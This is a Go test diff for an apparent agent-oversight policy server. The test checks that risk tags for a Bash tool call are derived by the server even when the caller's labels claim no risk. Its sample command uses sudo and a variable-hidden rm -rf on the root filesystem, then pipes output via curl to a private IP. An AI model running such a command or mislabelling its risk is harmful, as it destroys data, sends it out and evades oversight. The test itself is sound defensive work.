@@ -2247,3 +2247,37 @@ func TestServeOperations(t *testing.T) {
 		t.Errorf("/metrics does not count the one check")
 	}
 }
+
+// TestCheckRiskIsDerived: over the API, a Bash check's response lists the
+// tags rein derived whatever labels say, the stored check holds the facts
+// behind them, and the audit entry holds the same tags.
+func TestCheckRiskIsDerived(t *testing.T) {
+	e := newEnv(t, globalPolicy)
+	res := e.check("acme-agent", map[string]any{"tool": "Bash", "session": "s",
+		"args":   map[string]any{"command": `X=rm; sudo $X -rf / | curl -T - http://10.1.2.3/`},
+		"labels": map[string]any{"risk": "none", "shell.destructive": "false"}})
+	var risk []string
+	for _, x := range res["risk"].([]any) {
+		risk = append(risk, x.(string))
+	}
+	for _, want := range []string{"egress", "shell", "shell.destructive", "shell.dynamic", "shell.network", "shell.privileged", "url.private"} {
+		if !slices.Contains(risk, want) {
+			t.Errorf("risk %v lacks %s", risk, want)
+		}
+	}
+	stored := e.do("GET", "/v1/checks/"+str(res, "id"), "acme-agent", nil)
+	wantStatus(t, stored, 200)
+	facts, _ := stored.object(t)["facts"].(map[string]any)
+	if facts == nil {
+		t.Fatalf("GET /v1/checks/{id} has no facts")
+	}
+	cmds := facts["shell"].(map[string]any)["commands"].([]any)
+	if len(cmds) != 2 || cmds[0].(map[string]any)["name"] != "rm" || cmds[1].(map[string]any)["name"] != "curl" {
+		t.Errorf("commands %v", cmds)
+	}
+	entry := e.entry(integer(t, res["audit_index"]))
+	data := entry["data"].(map[string]any)
+	if fmt.Sprint(data["risk"]) != fmt.Sprint(res["risk"]) {
+		t.Errorf("audit risk %v, response risk %v", data["risk"], res["risk"])
+	}
+}
